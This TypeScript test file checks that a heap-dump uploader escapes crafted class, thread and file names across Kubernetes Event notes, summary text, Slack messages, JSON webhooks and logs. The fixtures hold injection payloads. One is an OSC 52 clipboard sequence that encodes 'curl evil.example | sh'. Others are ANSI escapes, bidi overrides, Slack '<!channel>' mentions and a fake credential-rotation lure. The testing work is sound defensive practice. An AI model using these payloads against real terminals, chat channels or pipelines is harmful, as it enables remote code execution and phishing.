/**
 * Issue 20 attack 6, content injection: a dump whose class, method, source file and thread names (and a file
 * name whose key) carry newlines, ESC / OSC 52 sequences, bidi overrides, backtick fences, `<!channel>` and a
 * fake "ACTION REQUIRED" paragraph. The dump is written with the tests' own HPROF writer, analysed by the
 * agent's analyzer, and rendered as the uploader renders it: the Event note, summary.txt, the Slack message
 * and the generic JSON. The expected texts are written out here by hand.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'fs';
import { open } from 'fs/promises';
import * as os from 'os';
import * as path from 'path';
import { objectKey } from '../../../agent/src/uploader/keys';
import { analyseDump } from '../../../agent/src/triage/dump-analysis';
import { triageOutcome } from '../../../agent/src/uploader/triage';
import { bufferNameReader, HprofAnalyzer, renderSummaryText, summaryDocument, type HeapSummary } from '../../../agent/src/triage';
import { buildEvent } from '../../../agent/src/report/kube-events';
import { type DumpReport, eventNote } from '../../../agent/src/report/report';
import { jsonPayload, slackPayload, webhookBody } from '../../../agent/src/report/webhook';
import { createLogger } from '../../../agent/src/runtime/logger';
import { HprofWriter, T } from '../../support/hprof-writer';

const ESC = '\u001b';
const BEL = '\u0007';
const RLO = '\u202e';
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`; // "set the clipboard to: curl evil.example | sh"

/** Class names as the dump writes them ('/' separated); the analyzer shows them with '.'. */
const CLASSES = [
  { name: 'com/evil/Fence```\n<!channel> <!here> *ACTION REQUIRED*\n```', instances: 4 },
  { name: 'com/evil/Leak\n\nACTION REQUIRED: your cluster is compromised, rotate all credentials at evil.example\n', instances: 3 },
  { name: `com/evil/Osc${OSC52}${ESC}[2J`, instances: 2 },
  { name: `com/evil/${RLO}txt.exe`, instances: 1 },
];
const THREAD_LATIN1 = `main\n\nACTION REQUIRED${ESC}[31m`;
const THREAD_UTF16 = `worker-${RLO}1<!channel>`;
const METHOD = 'run\nat fake.Frame.line(Fake.java:1)';
const SOURCE = `Evil.java${ESC}]0;pwned${BEL}`;
const FILE_NAME = `java_pid1\`\`\`<!channel>${RLO}\n.hprof`;

/** The crafted dump: 8-byte ids; classes with 1000-byte instances; two threads (Latin-1 and UTF-16 names) with one frame. */
function craftedDump(): Buffer {
  const w = new HprofWriter(8);
  const id = (n: number) => BigInt(n);
  w.utf8(1n, 'java/lang/Thread').utf8(2n, 'java/lang/String').utf8(3n, 'name').utf8(4n, 'value').utf8(5n, 'coder');
  w.utf8(6n, METHOD).utf8(7n, '()V').utf8(8n, SOURCE);
  w.loadClass(1, 0x100n, 1n).loadClass(2, 0x200n, 2n);
  CLASSES.forEach((c, i) => w.utf8(id(100 + i), c.name).loadClass(10 + i, id(0x1000 + i * 0x10), id(100 + i)));
  w.stackFrame(0x9000n, 6n, 7n, 8n, 10, 42).stackTrace(1, 1, [0x9000n]).stackTrace(2, 2, [0x9000n]);
  w.heapSegment()
    .classDump(0x100n, 0n, 8, [{ name: 3n, type: T.object }])
    .classDump(0x200n, 0n, 9, [{ name: 4n, type: T.object }, { name: 5n, type: T.byte }]);
  CLASSES.forEach((c, i) => {
    w.classDump(id(0x1000 + i * 0x10), 0n, 1000, []);
    for (let k = 0; k < c.instances; k++) w.instance(id(0x100000 + i * 0x10000 + k * 0x1000), id(0x1000 + i * 0x10), Buffer.alloc(1000));
  });
  const latin1 = Buffer.from(THREAD_LATIN1, 'latin1');
  const utf16 = Buffer.from(THREAD_UTF16, 'utf16le');
  w.instance(0x500000n, 0x100n, w.id(0x500100n))
    .instance(0x500100n, 0x200n, Buffer.concat([w.id(0x500200n), Buffer.from([0])]))
    .primitiveArray(0x500200n, T.byte, latin1.length, latin1)
    .rootThreadObject(0x500000n, 1, 1);
  w.instance(0x600000n, 0x100n, w.id(0x600100n))
    .instance(0x600100n, 0x200n, Buffer.concat([w.id(0x600200n), Buffer.from([1])]))
    .primitiveArray(0x600200n, T.byte, utf16.length, utf16)
    .rootThreadObject(0x600000n, 2, 2);
  return w.end().toBuffer();
}

let heap: HeapSummary;
let report: DumpReport;
const KEY = objectKey('dumps/', 'worker-1', [Buffer.from('shop'), Buffer.from('cart-7d9f8-abcde'), Buffer.from(FILE_NAME)]);
const URI = `s3://heap-dumps/${KEY}`;

beforeAll(async () => {
  const bytes = craftedDump();
  const a = new HprofAnalyzer();
  a.update(bytes);
  heap = await a.finish(bufferNameReader(bytes));
  report = {
    namespace: 'shop', pod: 'cart-7d9f8-abcde', node: 'worker-1', objectUri: URI, key: KEY, size: 123_456, sha256: 'ab'.repeat(32),
    complete: true, summaryKeys: [`${KEY}.summary.json`, `${KEY}.summary.txt`],
    topClasses: heap.classes.slice(0, 3).map((c) => ({ name: c.name, shallowBytes: c.shallowBytes, instances: c.instances })),
    uploadedAt: Date.UTC(2026, 10, 30, 1, 2, 3, 456),
  };
});

/** What a terminal or a chat client must never receive from these names. */
function expectInert(text: string) {
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
}

test('the analyzer reads the crafted names as they are (the attack reaches the renderers)', () => {
  expect(KEY).toBe(`dumps/worker-1/shop/cart-7d9f8-abcde/java_pid1\`\`\`<!channel>${RLO}%0A.hprof`);
  expect(heap.classes.slice(0, 4).map((c) => [c.name, c.instances])).toEqual(CLASSES.map((c) => [c.name.replace(/\//g, '.'), c.instances]));
  expect(heap.threads.map((t) => t.name)).toEqual([THREAD_LATIN1, THREAD_UTF16]);
  expect(heap.threads[0].frames[0]).toMatchObject({ method: METHOD, sourceFile: SOURCE });
});

test('the Event note: one paragraph, every name escaped, within 1 KiB', () => {
  const note = eventNote(report);
  expect(note).toBe(String.raw`Heap dump uploaded to s3://heap-dumps/dumps/worker-1/shop/cart-7d9f8-abcde/java_pid1` + '```<!channel>' + String.raw`\u{202e}%0A.hprof (120.6 KiB).`
    + ' Top classes by shallow size: com.evil.Fence```' + String.raw`\x0a<!channel> <!here> *ACTION REQUIRED*\x0a` + '``` 4.0 KiB in 4 instances; '
    + String.raw`com.evil.Leak\x0a\x0aACTION REQUIRED: your cluster is compromised, rotate all credentials at evil.example\x0a 3.0 KiB in 3 instances; `
    + String.raw`com.evil.Osc\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J 2.0 KiB in 2 instances.`
    + ' Summary: s3://heap-dumps/dumps/worker-1/shop/cart-7d9f8-abcde/java_pid1```<!channel>' + String.raw`\u{202e}%0A.hprof.summary.txt`);
  expect(Buffer.byteLength(note)).toBeLessThanOrEqual(1024);
  expectInert(note);
  expect(note).not.toContain('\n');
  // The Event's annotations keep the full URI as data (not shown as text by oc describe pod).
  expect(buildEvent(report, { reportingInstance: 'worker-1' }).metadata.annotations['heapdump-pipeline.io/object-uri']).toBe(URI);
});

test('summary.txt: every line is ours; names are escaped in place', () => {
  const text = renderSummaryText(summaryDocument({
    key: KEY, bucket: 'heap-dumps', uri: URI, size: 123_456, sha256: 'ab'.repeat(32), node: 'worker-1', namespace: 'shop', pod: 'cart-7d9f8-abcde',
    modifiedAt: '2026-11-30T01:00:00.000Z', uploadedAt: '2026-11-30T01:02:03.456Z', complete: true,
  }, heap));
  expectInert(text);
  const lines = text.split('\n');
  expect(lines.slice(0, 3)).toEqual([
    'Heap dump s3://heap-dumps/dumps/worker-1/shop/cart-7d9f8-abcde/java_pid1```<!channel>' + String.raw`\u{202e}%0A.hprof`,
    `  120.6 KiB, complete, sha256 ${'ab'.repeat(32)}`,
    '  pod shop/cart-7d9f8-abcde, node worker-1; written 2026-11-30T01:00:00.000Z, uploaded 2026-11-30T01:02:03.456Z',
  ]);
  const table = lines.slice(lines.indexOf('Top 7 classes by shallow size') + 1, lines.indexOf('Top 7 classes by shallow size') + 6);
  expect(table).toEqual([
    '  #  Instances  Shallow bytes           Class',
    '  1          4          4,064  4.0 KiB  com.evil.Fence```' + String.raw`\x0a<!channel> <!here> *ACTION REQUIRED*\x0a` + '```',
    String.raw`  2          3          3,048  3.0 KiB  com.evil.Leak\x0a\x0aACTION REQUIRED: your cluster is compromised, rotate all credentials at evil.example\x0a`,
    String.raw`  3          2          2,032  2.0 KiB  com.evil.Osc\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J`,
    String.raw`  4          1          1,016   1016 B  com.evil.\u{202e}txt.exe`,
  ]);
  const threads = lines.slice(lines.indexOf('Threads (2)'));
  expect(threads).toEqual([
    'Threads (2)',
    String.raw`"main\x0a\x0aACTION REQUIRED\x1b[31m", 1 frame`,
    String.raw`    at com.evil.Fence` + '```' + String.raw`\x0a<!channel> <!here> *ACTION REQUIRED*\x0a` + '```' + String.raw`.run\x0aat fake.Frame.line(Fake.java:1)(Evil.java\x1b]0;pwned\x07:42)`,
    String.raw`"worker-\u{202e}1<!channel>", 1 frame`,
    String.raw`    at com.evil.Fence` + '```' + String.raw`\x0a<!channel> <!here> *ACTION REQUIRED*\x0a` + '```' + String.raw`.run\x0aat fake.Frame.line(Fake.java:1)(Evil.java\x1b]0;pwned\x07:42)`,
    '',
  ]);
});

test('Slack: no mention, no link, no fence a name can close; the names stay inside code', () => {
  const msg = slackPayload(report);
  const uriMrkdwn = 's3://heap-dumps/dumps/worker-1/shop/cart-7d9f8-abcde/java_pid1' + String.raw`\x60\x60\x60&lt;!channel&gt;\u{202e}%0A.hprof`;
  expect(msg.text).toBe(`Heap dump from shop/cart-7d9f8-abcde on worker-1 uploaded to \`${uriMrkdwn}\` (120.6 KiB)`);
  expect(msg.blocks).toEqual([
    { type: 'header', text: { type: 'plain_text', text: 'Heap dump: shop/cart-7d9f8-abcde', emoji: false } },
    {
      type: 'section',
      fields: [
        { type: 'mrkdwn', text: '*Namespace*\nshop' }, { type: 'mrkdwn', text: '*Pod*\ncart-7d9f8-abcde' },
        { type: 'mrkdwn', text: '*Node*\nworker-1' }, { type: 'mrkdwn', text: '*Size*\n120.6 KiB' },
      ],
    },
    { type: 'section', text: { type: 'mrkdwn', text: `*Object*\n\`${uriMrkdwn}\`` } },
    {
      type: 'section',
      text: {
        type: 'mrkdwn',
        text: '*Top classes by shallow size*\n```\n'
          + '   4.0 KiB              4  ' + String.raw`com.evil.Fence\x60\x60\x60\x0a&lt;!channel&gt; &lt;!here&gt; *ACTION REQUIRED*\x0a\x60\x60\x60` + '\n'
          + '   3.0 KiB              3  ' + String.raw`com.evil.Leak\x0a\x0aACTION REQUIRED: your cluster is compromised, rotate all credentials at evil.example\x0a` + '\n'
          + '   2.0 KiB              2  ' + String.raw`com.evil.Osc\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J` + '\n```',
      },
    },
    { type: 'context', elements: [{ type: 'mrkdwn', text: `sha256 ${'ab'.repeat(32)} · summary \`${uriMrkdwn}.summary.txt\` · 2026-11-30T01:02:03.456Z` }] },
  ]);
  const body = webhookBody('slack', report);
  expectInert(JSON.parse(body).text);
  // Outside the one fence pair of the table, no backtick run of three; no raw < or > anywhere in mrkdwn.
  for (const t of [msg.text, ...JSON.stringify(msg.blocks).match(/"text":"(?:[^"\\]|\\.)*"/g)!]) {
    expect(t.replace('*Top classes by shallow size*\\n```\\n', '').replace(/\\n```"$/, '')).not.toContain('```');
    expect(t).not.toMatch(/[<>]/);
  }
});

test('generic JSON: the structured fields are the raw data (JSON-encoded, written inert), the human text is escaped', () => {
  const doc = jsonPayload(report);
  const body = webhookBody('json', report);
  expectInert(body);
  expect(JSON.parse(body)).toEqual(doc);
  expect(body).toContain(String.raw`Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J`); // JSON's own escapes
  expect(body).toContain(String.raw`java_pid1` + '```<!channel>' + String.raw`\u202e%0A.hprof`); // RLO written as \u202e
  expect(doc.topClasses.map((c) => c.name)).toEqual(CLASSES.slice(0, 3).map((c) => c.name.replace(/\//g, '.')));
  expect(doc.object.uri).toBe(URI);
  expect(doc.text).toBe('Heap dump from shop/cart-7d9f8-abcde on worker-1 uploaded to s3://heap-dumps/dumps/worker-1/shop/cart-7d9f8-abcde/java_pid1```<!channel>'
    + String.raw`\u{202e}%0A.hprof (120.6 KiB)`);
  expectInert(doc.text);
});

test('a log line carrying these names is inert too (JSON keeps C1, bidi and U+2028 as they are; the logger escapes them)', () => {
  const lines: string[] = [];
  const log = createLogger({ write: (l) => void lines.push(l) });
  log.warn(`analysis of ${FILE_NAME}`, { key: KEY, classes: heap.classes.slice(0, 4).map((c) => c.name), error: new Error(THREAD_UTF16) });
  expect(lines).toHaveLength(1);
  expectInert(lines[0]);
  const event = JSON.parse(lines[0]);
  expect(event.msg).toBe(String.raw`analysis of java_pid1` + '```<!channel>' + String.raw`\u{202e}\x0a.hprof`);
  expect(event.key).toBe(String.raw`dumps/worker-1/shop/cart-7d9f8-abcde/java_pid1` + '```<!channel>' + String.raw`\u{202e}%0A.hprof`);
  expect(event.classes[3]).toBe(String.raw`com.evil.\u{202e}txt.exe`);
  expect(event.error.message).toBe(String.raw`worker-\u{202e}1<!channel>`);
});

test('summary.json and summary.txt as the uploader renders them: the JSON keeps the names as data, inert bytes', async () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'crafted-'));
  try {
    const file = path.join(dir, 'java_pid1.hprof');
    const bytes = craftedDump();
    writeFileSync(file, bytes);
    // as the analysis process analyses it, and the uploader renders its summary
    const fh = await open(file, 'r');
    const { heap } = await analyseDump(async (b, o, l, p) => (await fh.read(b, o, l, p)).bytesRead, {
      kind: 'hprof', size: bytes.length, budgets: { cpuSeconds: 10, inflateMaxRatio: 100, inflateMaxBytes: 2 ** 30 }, cpuSeconds: () => 0,
    }).finally(() => fh.close());
    const outcome = triageOutcome(heap, 'worker-1');
    const { json, text } = outcome.render({
      key: KEY, bucket: 'heap-dumps', size: bytes.length, storedSize: bytes.length, sha256: 'ab'.repeat(32), complete: 'true', namespace: 'shop',
      pod: 'cart-7d9f8-abcde', modifiedAt: '2026-11-30T01:00:00.000Z', uploadedAt: '2026-11-30T01:02:03.456Z', duplicate: false, seconds: 1,
    });
    expectInert(json);
    expectInert(text);
    const doc = JSON.parse(json);
    expect(doc.heap.classes.slice(0, 4).map((c: { name: string }) => c.name)).toEqual(CLASSES.map((c) => c.name.replace(/\//g, '.')));
    expect(doc.heap.threads.map((t: { name: string }) => t.name)).toEqual([THREAD_LATIN1, THREAD_UTF16]);
    expect(doc.dump.key).toBe(KEY);
    expect(text).toContain(String.raw`"worker-\u{202e}1<!channel>", 1 frame`);
    expect(outcome.topClasses.map((c) => c.name)).toEqual(CLASSES.slice(0, 3).map((c) => c.name.replace(/\//g, '.')));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
